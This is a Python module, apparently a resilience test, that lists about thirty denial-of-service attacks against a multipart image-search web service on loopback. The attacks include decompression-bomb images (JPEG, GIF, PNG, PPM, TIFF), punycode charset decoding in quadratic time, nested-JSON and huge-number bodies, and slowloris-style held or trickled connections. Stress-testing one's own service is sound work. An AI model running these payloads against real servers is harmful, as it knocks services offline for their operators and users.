"""What one client may try against everybody else's service, each as a function of its address.

All is sent to loopback, by at most some hundred sockets at once, until it is told to stop.
"""

import io
import socket
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress

from PIL import Image

KIND = "multipart/form-data; boundary=x"
PART = b'--x\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n'
END = b"\r\n--x--\r\n"


# Requests


def form(name, value, more=b""):
    return PART % (name, more) + value + END


def file_form(data):
    return form(b"image", data, b'; filename="a"\r\nContent-Type: image/jpeg')


def request(body, *, path="/search", kind=KIND, length=None):
    size = len(body) if length is None else length
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {kind}\r\n"
    return f"{head}Content-Length: {size}\r\n\r\n".encode() + body


def chunked(body, size):
    head = f"POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Type: {KIND}\r\n"
    pieces = (body[i : i + size] for i in range(0, len(body), size))
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces)
    return f"{head}Transfer-Encoding: chunked\r\n\r\n".encode() + chunks + b"0\r\n\r\n"


# Pictures that are small to send and long to unpack


def make_progressive(scans, side=4896):
    """Return a gray JPEG whose last scan, of some 42 bytes, comes again and again."""
    file = io.BytesIO()
    Image.new("L", (side, side), 128).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last = data[data.rfind(b"\xff\xda") : -2]
    return data[:-2] + last * (scans - data.count(b"\xff\xda")) + b"\xff\xd9"


def make_commented_gif(size):
    """Return a GIF with a comment of so many bytes, in blocks of 255."""
    comment = (b"\xff" + b"a" * 255) * (size // 256)
    return b"GIF89a\x08\x00\x08\x00\x00\x00\x00\x21\xfe" + comment + b"\x00\x3b"


def make_spaced_ppm(size):
    """Return a PPM whose header is white space of so many bytes, read one by one."""
    return b"P6" + b" " * size + b"8 8 255\n" + bytes(192)


def make_png(side, *, interlaced=False):
    """Return a PNG of one colour, some kilobytes large."""

    def chunk(kind, data):
        return (
            len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
        )

    size = side.to_bytes(4, "big")
    rows = zlib.compress(bytes((side * 3 + 1) * side * (2 if interlaced else 1)), 9)
    header = chunk(b"IHDR", size + size + bytes([8, 2, 0, 0, interlaced]))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def save(format, side, **options):
    file = io.BytesIO()
    Image.effect_noise((side, side), 90).convert("RGB").save(file, format, **options)
    return file.getvalue()


# How they are sent


def repeat(data, *, clients=4):
    """Send a request, wait for its answer, and again, by several clients at once."""

    def attack(address, stop):
        def go_on(_number):
            while not stop.is_set():
                with suppress(OSError), socket.create_connection(address, 20) as connection:
                    connection.sendall(data)
                    connection.recv(4096)

        with ThreadPoolExecutor(clients) as pool:
            list(pool.map(go_on, range(clients)))

    return attack


def hold(data, *, clients):
    """Send something by many connections, and then nothing more."""

    def attack(address, stop):
        with ExitStack() as stack:
            for _ in range(clients):
                with suppress(OSError):
                    connection = stack.enter_context(socket.create_connection(address, 20))
                    connection.sendall(data)
            stop.wait()

    return attack


def trickle(data, piece, *, clients):
    """Send something, and then a little again and again without an end."""

    def attack(address, stop):
        with ExitStack() as stack:
            connections = [
                stack.enter_context(socket.create_connection(address, 20)) for _ in range(clients)
            ]
            for connection in connections:
                connection.settimeout(0.2)
                connection.sendall(data)
            while not stop.is_set():
                for connection in connections:
                    with suppress(OSError):
                        connection.sendall(piece)
                time.sleep(0.01)

    return attack


def hang_up(data, *, clients=4):
    """Send a request and do not wait for its answer."""

    def attack(address, stop):
        while not stop.is_set():
            with ExitStack() as stack, suppress(OSError):
                for _ in range(clients):
                    stack.enter_context(socket.create_connection(address, 20)).sendall(data)
            time.sleep(0.1)

    return attack


BIG = 2**18 - 100  # the most that a field may have
PICTURE = b"GET /image/%s HTTP/1.1\r\nHost: localhost\r\n\r\n"
NEAR = b"\r\n--" * 2**21  # all but a boundary

ATTACKS = {
    "a charset that Python decodes in quadratic time": repeat(
        request(form(b"words", b"a" * 10**6), kind=f"{KIND}; charset=punycode")
    ),
    "such a charset within the form": repeat(
        request(form(b"words", b"a" * BIG, b"\r\nContent-Type: text/plain; charset=punycode"))
    ),
    "progressive JPEGs of 2,000 scans": repeat(request(file_form(make_progressive(2000)))),
    "progressive JPEGs of as many scans as may be": repeat(
        request(file_form(make_progressive(100)))
    ),
    "GIFs that are one comment": repeat(request(file_form(make_commented_gif(2**24)))),
    "PPMs that are one space": repeat(request(file_form(make_spaced_ppm(2**24)))),
    "PNGs of 24 megapixels in kilobytes": repeat(request(file_form(make_png(4890)))),
    "interlaced PNGs": repeat(request(file_form(make_png(4000, interlaced=True)))),
    "AVIFs": repeat(request(file_form(save("AVIF", 1500, speed=10)))),
    "WebPs without loss": repeat(request(file_form(save("WEBP", 1500, lossless=True, method=0)))),
    "TIFFs of many strips": repeat(
        request(file_form(save("TIFF", 2000, compression="tiff_lzw", strip_size=1)))
    ),
    "bodies that are all but boundaries": repeat(request(file_form(NEAR))),
    "chunks of one byte": repeat(chunked(file_form(bytes(2**19)), 1)),
    "a thousand parts": repeat(request(PART % (b"liked", b"") * 100_000)),
    "quotes within quotes in a form's headers": repeat(
        request((PART % (b"liked", b'; q="' + b'\\"' * 950) + b"a\r\n") * 450 + b"--x--\r\n")
    ),
    "lists within lists": repeat(request(form(b"prompts", b"[" * BIG))),
    "numbers of many digits": repeat(request(form(b"prompts", b"[" + b"9" * BIG + b"]"))),
    "many wrong prompts": repeat(request(form(b"prompts", b"[" + b"1," * (BIG // 2 - 1) + b"1]"))),
    "a prompt of many points": repeat(
        request(
            form(b"prompts", b'[{"kind": "points", "xy": [' + b"[1,2]," * 40_000 + b"[1,2]]}]")
        ),
        clients=10,
    ),
    "a count of many digits": repeat(request(form(b"k", b"9" * BIG))),
    "many words": repeat(request(form(b"words", b"red " * 75))),
    "200 connections that send 4 bytes of a body": hold(
        request(b"--x\r", length=1000), clients=200
    ),
    "800 silent connections": hold(b"", clients=800),
    "400 half-sent headers": hold(b"GET /health HTTP/1.1\r\nHost: lo", clients=400),
    "cookies of backslashes": repeat(
        b'GET /image/a HTTP/1.1\r\nHost: localhost\r\nCookie: visitor="'
        + b"\\" * 32_000
        + b'"\r\n\r\n'
    ),
    "pictures that nobody reads": hold(PICTURE * 8, clients=50),
    "headers without an end": trickle(
        b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"a: " + b"b" * 1000 + b"\r\n", clients=20
    ),
    "one header without an end": trickle(b"GET / HTTP/1.1\r\nA: ", b"b" * 2**16, clients=8),
    "trailers without an end": trickle(chunked(b"--x--", 5)[:-2], b"a" * 2**16, clients=8),
    "requests before their answers": trickle(
        b"", b"GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n" * 1000, clients=8
    ),
    "searches that nobody waits for": hang_up(request(form(b"words", b"a red star"))),
}
